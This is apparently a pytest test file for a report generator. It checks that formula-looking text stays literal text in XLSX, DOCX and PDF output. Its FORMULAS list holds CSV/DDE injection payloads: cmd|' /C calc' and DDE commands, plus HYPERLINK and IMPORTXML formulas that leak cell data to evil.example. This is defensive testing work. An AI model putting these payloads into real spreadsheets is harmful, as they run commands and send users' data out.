"""Formula injection, end to end: text that a spreadsheet would run stays text in every format.

A cell that starts with =, +, - or @ is a formula to Excel and LibreOffice (CSV/DDE injection,
OWASP). Every such text of a spec must reach the XLSX as a text cell (no <f> element anywhere,
quote-prefixed so that editing the cell keeps it text) and print literally in DOCX and PDF.

Leading whitespace cannot smuggle a formula past this: the spec layer strips every text and
turns runs of spaces, tabs and line breaks into one space (README), so "\\t=1+1" and "\\r=1+1"
arrive as "=1+1" — and are then protected like any other formula-looking text.
"""

from __future__ import annotations

import re
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
import yaml

from generator.spec import load_spec
from tests import readback_docx, readback_pdf, readback_xlsx
from tests.built import FORMATS
from tests.cli import run_cli
from tests.oracle import HEADERS, expected_tables
from tests.test_consistency import SHEETS, as_read, by_header, squeeze_empty_row

FORMULAS = [
    "=1+1",
    "=SUM(A1:A3)",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "=2+5+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "+1+1",
    "+41 22 555 0100",
    "-2+3",
    "-5",
    "-@SUM(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@risk",
    "=",
    "+",
    "-",
    "@",
    "==1",
    "'=1+1",
]
# What a leading tab, carriage return, line feed or space becomes: the text without it.
LEADING_WHITESPACE = {"\t=1+1": "=1+1", "\r=2+2": "=2+2", "\n@SUM(3)": "@SUM(3)", "  +4+4": "+4+4", "\t \r\n-5-5": "-5-5"}
TEXTS = FORMULAS + list(LEADING_WHITESPACE)
FORMULA_STARTS = ("=", "+", "-", "@")


def spec_data() -> dict:
    texts = iter(TEXTS * 4)
    return {
        "code": "89253",
        "title": "=HYPERLINK(\"https://evil.example\",\"title\")",
        "descriptor": "+descriptor",
        "version": "-1",
        "as_of": "2026-11-26",
        "prepared_for": "@client",
        "prepared_by": "\t=author",
        "sections": [
            {
                "title": "=section()",
                "body": ["=paragraph()", *FORMULAS[:6], {"bullets": FORMULAS[6:]}, {"table": "payers"}],
                "sections": [{"title": "-subsection", "body": [{"table": "modifiers"}, {"table": "benchmarks"}]}],
            }
        ],
        "modifiers": [
            {"modifier": f"{i:02d}", "description": next(texts), "when_to_use": next(texts)} for i in range(len(TEXTS) // 2)
        ],
        "payers": [
            {
                "payer": next(texts), "coverage": next(texts), "prior_authorization": next(texts),
                "policy": next(texts), "notes": next(texts), "policy_url": "https://example.test/policy",
            }
            for _ in range(5)
        ],
        "benchmarks": [
            {"metric": next(texts), "value": next(texts), "unit": "text", "period": next(texts), "source": next(texts)}
            for _ in range(5)
        ]
        + [{"metric": "a negative number", "value": -5, "unit": "count"}],  # a real number stays a number
        "revisions": [{"version": "=1.0", "date": "2026-11-26", "summary": "+summary"}],
    }


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, bytes]]:
    folder = tmp_path_factory.mktemp("formulas")
    spec = folder / "formulas.yaml"
    spec.write_text(yaml.safe_dump(spec_data(), allow_unicode=True, sort_keys=False), encoding="utf-8")
    result = run_cli("build", spec, "-o", folder)
    assert result.status == 0, result.stderr
    return spec, {fmt: (folder / f"formulas.{fmt}").read_bytes() for fmt in FORMATS}


def displayed(text: str) -> str:
    return LEADING_WHITESPACE.get(text, text)


def test_leading_whitespace_cannot_survive_loading(built: tuple[Path, dict[str, bytes]]) -> None:
    spec = load_spec(built[0]).spec
    assert spec.prepared_by == "=author"
    loaded = [text for row in spec.modifiers for text in (row.description, row.when_to_use)]
    assert loaded == [displayed(t) for t in TEXTS[: len(loaded)]]
    everywhere = {text for row in (*spec.modifiers, *spec.payers, *spec.benchmarks) for text in vars(row).values()}
    assert set(LEADING_WHITESPACE.values()) <= everywhere
    assert not set(LEADING_WHITESPACE) & everywhere
    assert all(not text[0].isspace() for text in loaded)


def test_no_xlsx_cell_is_a_formula(built: tuple[Path, dict[str, bytes]]) -> None:
    with zipfile.ZipFile(BytesIO(built[1]["xlsx"])) as package:
        names = package.namelist()
        sheets = [name for name in names if name.startswith("xl/worksheets/") and name.endswith(".xml")]
        assert sheets
        for name in sheets:
            xml = package.read(name).decode("utf-8")
            assert not re.search(r"<(?:\w+:)?f[\s>/]", xml), f"{name} holds a formula element"
            assert 't="str"' not in xml, f"{name} holds a formula result"  # the type of a formula's text
        assert "xl/calcChain.xml" not in names


def test_every_formula_looking_text_is_a_quote_prefixed_text_cell(built: tuple[Path, dict[str, bytes]]) -> None:
    workbook = readback_xlsx.load(built[1]["xlsx"])
    strings: set[str] = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    assert cell.data_type in ("s", "inlineStr"), f"{sheet.title}!{cell.coordinate}"
                    strings.add(cell.value)
                    if cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} {cell.value!r} is not quote-prefixed"
    assert {displayed(t) for t in TEXTS} <= strings
    benchmarks = workbook[SHEETS["benchmarks"]]
    assert [c.value for c in benchmarks["B"]][-1] == -5  # numbers are not turned into text


@pytest.mark.parametrize("table", list(HEADERS))
def test_tables_print_the_texts_literally_in_every_format(built: tuple[Path, dict[str, bytes]], table: str) -> None:
    spec, files = built
    missing = "Data not available in the input."
    want = as_read(expected_tables(spec)[table], missing)
    assert squeeze_empty_row(by_header(readback_docx.read_tables(files["docx"]))[tuple(HEADERS[table])], missing) == want
    assert squeeze_empty_row(by_header(readback_pdf.read_tables(files["pdf"]))[tuple(HEADERS[table])], missing) == want
    assert squeeze_empty_row(readback_xlsx.read_tables(files["xlsx"])[SHEETS[table]], missing) == want


def test_paragraphs_bullets_and_headings_print_literally(built: tuple[Path, dict[str, bytes]]) -> None:
    files = built[1]
    docx_paragraphs = readback_docx.read_paragraphs(files["docx"])
    pdf_lines = readback_pdf.read_text(files["pdf"]).replace("\f", "\n").splitlines()
    for text in ["=paragraph()", *FORMULAS[:6], "=section()", "-subsection"]:
        assert text in docx_paragraphs, text
        assert text in pdf_lines, text
    for text in FORMULAS[6:]:
        assert text in docx_paragraphs, text
        assert f"• {text}" in pdf_lines, text
    assert 'CPT 89253: =HYPERLINK("https://evil.example","title")' in docx_paragraphs
    assert "Prepared by: =author" in docx_paragraphs
